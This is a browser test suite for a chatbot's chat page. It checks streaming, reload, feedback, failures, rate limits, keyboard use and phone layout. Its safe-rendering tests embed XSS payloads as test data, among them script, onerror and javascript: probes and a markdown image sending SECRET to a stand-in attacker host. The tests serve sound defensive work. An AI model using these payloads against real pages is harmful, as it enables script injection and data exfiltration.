package dev.parley.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.fake.Fault;
import dev.parley.testing.Await;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpServer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chromium.ChromiumNetworkConditions;
import org.openqa.selenium.interactions.Actions;

/** The chat page in a real browser: streaming, reload, safe rendering, feedback, failures, phones. */
@Timeout(120)
class ChatPageTest {

  static final String XSS_NAME = "<img src=x onerror=alert(1)>Bot\"><script>alert(2)</script>";

  static Browser browser;
  static JsonObject bot;

  @BeforeAll
  static void start() throws Exception {
    Browser.requireInstalled();
    browser = Browser.start();
    bot = browser.createBot(new JsonObject().put("name", XSS_NAME)
        .put("provider", "openai").put("api_key", "sk-test-0123456789abcdef")
        .put("rag", new JsonObject().put("enabled", false))
        .put("widget", new JsonObject().put("color", "#0f766e").put("greeting", "Hello! Ask me **anything**.")
            .put("starter_questions", new JsonArray().add("What can you do?"))));
  }

  @AfterAll
  static void stop() {
    if (browser != null) {
      browser.close();
    }
  }

  @BeforeEach
  void fresh() {
    browser.app.openai.reset();
    browser.size(1280, 900);
    browser.open("/chat/" + bot.getString("id"));
    browser.js("localStorage.clear();");
    openChat();
  }

  @AfterEach
  void no_dialog_ever_opened() {
    assertThat(browser.dialogs()).isZero();
  }

  private void openChat() {
    browser.open("/chat/" + bot.getString("id"));
    browser.hookDialogs();
    browser.waitFor(d -> "true".equals(d.findElement(By.tagName("body")).getDomAttribute("data-ready")));
  }

  private void type(String text) {
    WebElement input = browser.driver.findElement(By.id("input"));
    input.sendKeys(text);
    input.sendKeys(Keys.ENTER);
  }

  private List<WebElement> answers() {
    return browser.driver.findElements(By.cssSelector("#log .msg.assistant:not(.greeting)"));
  }

  private WebElement lastAnswerWhenDone() {
    browser.waitFor(d -> !answers().isEmpty() && answers().get(answers().size() - 1).findElements(By.cssSelector(".feedback")).size() == 1);
    return answers().get(answers().size() - 1);
  }

  @Test
  void answer_streams_in_and_is_restored_after_reload() {
    browser.app.openai.chunkDelayMs(120);
    browser.app.openai.answerWith("One two three four five six seven eight nine ten.");
    assertThat(browser.driver.findElement(By.id("title")).getText()).isEqualTo(XSS_NAME);
    type("Count to ten");
    // Part of the answer shows before the whole of it: it streams.
    String partial = browser.waitFor(d -> {
      List<WebElement> a = answers();
      String text = a.isEmpty() ? "" : a.get(0).findElement(By.cssSelector(".bubble")).getText();
      return text.startsWith("One") && !text.contains("ten.") ? text : null;
    });
    assertThat(partial).doesNotContain("ten.");
    WebElement answer = lastAnswerWhenDone();
    assertThat(answer.findElement(By.cssSelector(".bubble")).getText()).isEqualTo("One two three four five six seven eight nine ten.");
    String session = (String) browser.js("return localStorage.getItem(arguments[0]);", "parley:session:" + bot.getString("id"));
    assertThat(session).matches("[A-Za-z0-9_-]{8,64}");
    browser.screenshot("chat-page");

    browser.driver.navigate().refresh();
    browser.hookDialogs();
    browser.waitFor(d -> "true".equals(d.findElement(By.tagName("body")).getDomAttribute("data-ready")));
    assertThat(browser.driver.findElement(By.cssSelector("#log .msg.user .bubble")).getText()).isEqualTo("Count to ten");
    assertThat(lastAnswerWhenDone().getText()).contains("One two three four five six seven eight nine ten.");

    browser.driver.findElement(By.id("new-chat")).click();
    assertThat(answers()).isEmpty();
    assertThat(browser.js("return localStorage.getItem(arguments[0]);", "parley:session:" + bot.getString("id"))).isNull();
    assertThat(browser.driver.findElement(By.cssSelector("#log .greeting")).getText()).contains("Hello! Ask me anything.");
  }

  @Test
  void user_and_model_html_stays_inert_text() {
    String userPayload = "<img src=x onerror=alert(3)><svg onload=alert(4)>\"><script>alert(5)</script>";
    browser.app.openai.answerWith("Here: <script>alert(6)</script> <img src=x onerror=alert(7)> "
        + "[click](javascript:alert(8)) [site](https://example.com/) ![pic](https://attacker.test/p.png?d=SECRET)\n\n"
        + "<iframe src=\"javascript:alert(9)\"></iframe> `<b>code</b>` **bold**");
    type(userPayload);
    WebElement answer = lastAnswerWhenDone();
    assertThat(browser.driver.findElement(By.cssSelector("#log .msg.user .bubble")).getText()).isEqualTo(userPayload);
    assertThat(answer.getText()).contains("<script>alert(6)</script>", "<img src=x onerror=alert(7)>", "<iframe");
    WebElement log = browser.driver.findElement(By.id("log"));
    // Only the page's own thumb icons are SVG; nothing from the user or the model becomes an element.
    assertThat(log.findElements(By.cssSelector(".bubble img, .bubble script, .bubble svg, .bubble iframe, script, iframe, img")))
        .isEmpty();
    assertThat(answer.findElement(By.cssSelector("code")).getText()).isEqualTo("<b>code</b>");
    assertThat(answer.findElement(By.cssSelector("strong")).getText()).isEqualTo("bold");
    List<WebElement> links = answer.findElements(By.cssSelector(".bubble a"));
    assertThat(links).extracting(a -> a.getDomProperty("href"))
        .containsExactly("https://example.com/", "https://attacker.test/p.png?d=SECRET");
    assertThat(links).allSatisfy(a -> assertThat(a.getDomAttribute("rel")).isEqualTo("noopener noreferrer"));
    assertThat(answer.getText()).contains("[click](javascript:alert(8))", "[image: pic]");
    browser.screenshot("chat-xss-inert");
  }

  @Test
  void thumbs_up_is_saved_through_the_feedback_api() {
    type("Rate me");
    WebElement answer = lastAnswerWhenDone();
    answer.findElement(By.cssSelector(".rate-up")).click();
    browser.waitFor(d -> "true".equals(answer.findElement(By.cssSelector(".rate-up")).getDomAttribute("aria-pressed")));
    String session = (String) browser.js("return localStorage.getItem(arguments[0]);", "parley:session:" + bot.getString("id"));
    JsonObject stored = Await.result(browser.app.client.get("/api/chat/" + bot.getString("id") + "/session/" + session).send())
        .bodyAsJsonObject();
    JsonObject assistant = stored.getJsonArray("messages").getJsonObject(1);
    assertThat(assistant.getString("feedback")).isEqualTo("up");
  }

  @Test
  void a_failed_answer_shows_a_message_and_retry_works() {
    for (int i = 0; i < 4; i++) {
      browser.app.openai.enqueue(Fault.status(500));
    }
    browser.driver.findElement(By.cssSelector(".starter")).click();
    WebElement notice = browser.waitFor(d -> {
      WebElement n = d.findElement(By.id("notice"));
      return n.isDisplayed() ? n : null;
    });
    assertThat(notice.getText()).contains("unavailable");
    browser.screenshot("chat-error-retry");
    browser.app.openai.reset();
    browser.driver.findElement(By.id("retry")).click();
    WebElement answer = lastAnswerWhenDone();
    assertThat(answer.getText()).contains("Echo: What can you do?");
    assertThat(browser.driver.findElement(By.id("notice")).isDisplayed()).isFalse();
  }

  @Test
  void an_unreachable_server_shows_a_message_and_retry_works_once_back_online() {
    ChromiumNetworkConditions offline = new ChromiumNetworkConditions();
    offline.setOffline(true);
    browser.driver.setNetworkConditions(offline);
    try {
      type("Are you there?");
      WebElement notice = browser.waitFor(d -> {
        WebElement n = d.findElement(By.id("notice"));
        return n.isDisplayed() ? n : null;
      });
      assertThat(notice.getText()).contains("The assistant cannot be reached. Check your connection and retry.");
      assertThat(answers()).isEmpty();
      assertThat(browser.driver.findElement(By.cssSelector("#log .msg.user .bubble")).getText()).isEqualTo("Are you there?");
    } finally {
      browser.driver.deleteNetworkConditions();
    }
    browser.driver.findElement(By.id("retry")).click();
    WebElement answer = lastAnswerWhenDone();
    assertThat(answer.findElement(By.cssSelector(".bubble")).getText()).isEqualTo("Echo: Are you there?");
    assertThat(browser.driver.findElement(By.id("notice")).isDisplayed()).isFalse();
  }

  @Test
  void a_cut_off_answer_stays_marked_incomplete_and_retry_asks_again() {
    browser.app.openai.answerWith("One two three four five six seven eight nine ten.");
    browser.app.openai.enqueue(Fault.resetAfterChunks(3));
    type("Count for me");
    WebElement notice = browser.waitFor(d -> {
      WebElement n = d.findElement(By.id("notice"));
      return n.isDisplayed() ? n : null;
    });
    assertThat(notice.getText()).contains("The answer was cut off.");
    WebElement partial = answers().get(0);
    assertThat(partial.getDomAttribute("class")).contains("incomplete");
    assertThat(partial.findElement(By.cssSelector(".bubble")).getText()).startsWith("One").doesNotContain("ten.");
    assertThat(partial.findElements(By.cssSelector(".feedback"))).isEmpty();
    browser.screenshot("chat-cut-off");

    browser.driver.findElement(By.id("retry")).click();
    browser.waitFor(d -> answers().size() == 2 && answers().get(1).findElements(By.cssSelector(".feedback")).size() == 1);
    assertThat(answers().get(1).findElement(By.cssSelector(".bubble")).getText())
        .isEqualTo("One two three four five six seven eight nine ten.");
    assertThat(browser.driver.findElement(By.id("notice")).isDisplayed()).isFalse();
  }

  @Test
  void the_page_shows_the_bots_title_colour_avatar_greeting_and_starters() {
    // A 1×1 PNG served from another origin: the page's img-src allows the avatar's origin and no other.
    byte[] png = java.util.Base64.getDecoder()
        .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=");
    HttpServer images = Await.result(browser.vertx.createHttpServer()
        .requestHandler(r -> r.response().putHeader("Content-Type", "image/png").end(Buffer.buffer(png)))
        .listen(0, "127.0.0.1"));
    try {
      String avatar = "http://127.0.0.1:" + images.actualPort() + "/avatar.png";
      String id = browser.createBot(new JsonObject().put("name", "Look bot").put("api_key", "sk-test-0123456789abcdef")
          .put("widget", new JsonObject().put("title", "Bike shop").put("color", "#7c3aed").put("greeting", "Hi, I fix bikes.")
              .put("avatar_url", avatar).put("starter_questions", new JsonArray().add("Opening hours?").add("Do you sell helmets?"))))
          .getString("id");
      browser.open("/chat/" + id);
      browser.hookDialogs();
      browser.waitFor(d -> "true".equals(d.findElement(By.tagName("body")).getDomAttribute("data-ready")));
      assertThat(browser.driver.findElement(By.id("title")).getText()).isEqualTo("Bike shop");
      assertThat(browser.driver.getTitle()).isEqualTo("Bike shop");
      assertThat(browser.driver.findElement(By.cssSelector(".top")).getCssValue("background-color"))
          .isEqualTo("rgba(124, 58, 237, 1)");
      assertThat(browser.driver.findElement(By.id("send")).getCssValue("background-color")).isEqualTo("rgba(124, 58, 237, 1)");
      WebElement img = browser.driver.findElement(By.id("avatar"));
      assertThat(img.getDomProperty("src")).isEqualTo(avatar);
      browser.waitFor(d -> Long.valueOf(1).equals(browser.js("return arguments[0].complete && arguments[0].naturalWidth;", img)));
      assertThat(img.isDisplayed()).isTrue();
      assertThat(browser.driver.findElement(By.cssSelector("#log .greeting")).getText()).contains("Hi, I fix bikes.");
      assertThat(browser.driver.findElements(By.cssSelector("#starters .starter"))).extracting(WebElement::getText)
          .containsExactly("Opening hours?", "Do you sell helmets?");
      browser.screenshot("chat-look");
    } finally {
      Await.result(images.close());
    }
  }

  @Test
  void a_rate_limited_message_says_when_to_retry_and_retry_sends_it() {
    String id = browser.createBot(new JsonObject().put("name", "Busy bot").put("api_key", "sk-test-0123456789abcdef")
        .put("rag", new JsonObject().put("enabled", false))
        .put("rate_limit", new JsonObject().put("per_session_per_minute", 1))).getString("id");
    browser.open("/chat/" + id);
    browser.hookDialogs();
    browser.waitFor(d -> "true".equals(d.findElement(By.tagName("body")).getDomAttribute("data-ready")));
    type("First question");
    lastAnswerWhenDone();
    type("Second question");
    WebElement notice = browser.waitFor(d -> {
      WebElement n = d.findElement(By.id("notice"));
      return n.isDisplayed() ? n : null;
    });
    assertThat(notice.getText()).containsPattern("Too many messages right now\\. Please wait \\d+ s and retry\\.");
    assertThat(notice.getDomAttribute("role")).isEqualTo("alert");
    assertThat(browser.driver.findElement(By.id("retry")).isDisplayed()).isTrue();
    // The question stays on screen; no empty answer is left behind.
    assertThat(browser.driver.findElements(By.cssSelector("#log .msg.user .bubble"))).extracting(WebElement::getText)
        .containsExactly("First question", "Second question");
    assertThat(answers()).hasSize(1);
    browser.screenshot("chat-rate-limited");

    // Once the limit no longer holds (here: the operator lifts it), Retry sends the same question again.
    Await.result(browser.app.admin(io.vertx.core.http.HttpMethod.PUT, "/api/bots/" + id)
        .sendJsonObject(new JsonObject().put("rate_limit", new JsonObject().put("per_session_per_minute", 0))));
    browser.driver.findElement(By.id("retry")).click();
    browser.waitFor(d -> answers().size() == 2 && answers().get(1).findElements(By.cssSelector(".feedback")).size() == 1);
    assertThat(answers().get(1).findElement(By.cssSelector(".bubble")).getText()).isEqualTo("Echo: Second question");
    assertThat(browser.driver.findElement(By.id("notice")).isDisplayed()).isFalse();
    assertThat(browser.driver.findElements(By.cssSelector("#log .msg.user"))).hasSize(2);
  }

  private String focused() {
    return (String) browser.js("var e = document.activeElement; return e.id || e.className;");
  }

  @Test
  void the_page_is_usable_by_keyboard_alone() {
    browser.js("document.activeElement.blur();");
    List<String> order = new java.util.ArrayList<>();
    for (int i = 0; i < 5; i++) {
      new Actions(browser.driver).sendKeys(Keys.TAB).perform();
      order.add(focused());
    }
    assertThat(order).containsExactly("new-chat", "log", "starter", "input", "send");
    // Back to the starter question; Enter asks it.
    new Actions(browser.driver).keyDown(Keys.SHIFT).sendKeys(Keys.TAB, Keys.TAB).keyUp(Keys.SHIFT).perform();
    assertThat(focused()).isEqualTo("starter");
    new Actions(browser.driver).sendKeys(Keys.ENTER).perform();
    WebElement answer = lastAnswerWhenDone();
    assertThat(answer.findElement(By.cssSelector(".bubble")).getText()).isEqualTo("Echo: What can you do?");
    // The focus is back in the input; the rating buttons are the stops just before it, and Space presses one.
    browser.waitFor(d -> "input".equals(focused()));
    new Actions(browser.driver).keyDown(Keys.SHIFT).sendKeys(Keys.TAB, Keys.TAB).keyUp(Keys.SHIFT).perform();
    assertThat(focused()).isEqualTo("rate rate-up");
    new Actions(browser.driver).sendKeys(Keys.SPACE).perform();
    browser.waitFor(d -> "true".equals(answer.findElement(By.cssSelector(".rate-up")).getDomAttribute("aria-pressed")));
    assertThat(answer.findElement(By.cssSelector(".rate-up")).getDomAttribute("aria-label")).isEqualTo("Helpful");
  }

  @Test
  void works_on_a_phone_sized_screen_by_keyboard() {
    browser.size(390, 844);
    openChat();
    type("Hi from a phone");
    lastAnswerWhenDone();
    Object overflow = browser.js("return document.documentElement.scrollWidth > window.innerWidth;");
    assertThat(overflow).isEqualTo(false);
    WebElement composer = browser.driver.findElement(By.id("composer"));
    assertThat(composer.isDisplayed()).isTrue();
    Object bottom = browser.js("return document.getElementById('composer').getBoundingClientRect().bottom <= window.innerHeight;");
    assertThat(bottom).isEqualTo(true);
    assertThat(browser.driver.findElement(By.id("log")).getDomAttribute("aria-live")).isEqualTo("polite");
    browser.screenshot("chat-phone");
  }
}
